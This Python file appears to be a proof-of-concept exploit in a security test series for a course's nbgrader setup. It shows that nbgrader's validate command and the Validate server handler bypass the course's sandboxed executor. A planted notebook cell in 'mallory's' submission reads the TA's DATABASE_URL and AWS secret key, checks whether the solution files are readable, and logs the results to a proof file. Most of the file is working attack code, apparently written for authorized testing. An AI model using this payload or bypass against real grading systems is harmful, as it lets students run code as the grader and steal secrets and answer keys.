"""a07: nbgrader run another way than grader.grade: `validate`. The TA's `make lab` server loads nbgrader's
validate_assignment extension (venv etc/jupyter/jupyter_server_config.d/nbgrader.json) whose
POST /assignments/validate (the "Validate" button nbgrader's lab extension puts on a notebook's toolbar) runs
nbgrader's Validator inside the server, with the course's nbgrader_config.py; `nbgrader validate` does the same on
the command line. Validator's preprocessors are nbgrader's own Execute, not the course's ResilientExecute, so the
"refuses any kernel but the sandbox" guard (grader/execute.py) is never reached. The hand-in, as handed in
(submitted/), is run in a local kernel as the TA (root here), with the TA's environment.
Both routes tried: the CLI, and the server handler's own method (ValidateAssignmentHandler.validate_notebook)
called on a stand-in object with the course as the server's root_dir and cwd, as `make lab` runs it."""
import json, os, subprocess
from harness import *
PROOF = "/tmp/attack38-root-a07-proof.txt"
PAYLOAD = r'''
import os, json
with open(PROOF, "a") as _f:
    _f.write(json.dumps({"uid": os.getuid(), "cwd": os.getcwd(),
                         "DATABASE_URL": os.environ.get("DATABASE_URL"),
                         "AWS": os.environ.get("AWS_SECRET_ACCESS_KEY"),
                         "solutions_readable": os.path.exists(os.path.join(os.getcwd(), "../../../source/ps1_memory/ps1_memory.ipynb"))}) + "\n")
'''.replace("PROOF", repr(PROOF))
HANDLER = r'''
import os, sys, json
os.chdir(sys.argv[1])
from nbgrader.server_extensions.validate_assignment.handlers import ValidateAssignmentHandler
class Fake:  # the handler's settings and config loading, as in the TA's server started in the course folder
    settings = {"root_dir": sys.argv[1]}
    load_config = ValidateAssignmentHandler.load_config
    root_dir = property(lambda self: self.settings["root_dir"])
out = ValidateAssignmentHandler.validate_notebook(Fake(), sys.argv[2])
print("handler answered success =", out["success"])
'''
if __name__ == "__main__":
    if os.path.exists(PROOF): os.unlink(PROOF)
    d = make_course("a07")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            c.source = c.source + "\n" + PAYLOAD
    put(d, "mallory", nb)
    put(d, "zoe", solution_nb())
    grade(d)
    scores(d)
    print("proof file after make grade (sandboxed):", open(PROOF).read() if os.path.exists(PROOF) else "none")
    env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", "submitted/mallory/ps1_memory/ps1_memory.ipynb"],
                       cwd=d, env=env, capture_output=True, text=True, timeout=300)
    print("nbgrader validate rc", r.returncode, r.stdout[-300:], r.stderr[-600:])
    print("proof file after `nbgrader validate`:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    os.unlink(PROOF) if os.path.exists(PROOF) else None
    r = subprocess.run([f"{CLONE}/.venv/bin/python", "-c", HANDLER, d, "submitted/mallory/ps1_memory/ps1_memory.ipynb"],
                       cwd=d, env=dict(env, PYTHONSAFEPATH="1", DISTCOURSE_JUDGE="kernel"), capture_output=True, text=True, timeout=300)
    print("server handler rc", r.returncode, r.stdout[-300:], r.stderr[-600:])
    print("proof file after the server's validate handler:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    os.unlink(PROOF) if os.path.exists(PROOF) else None
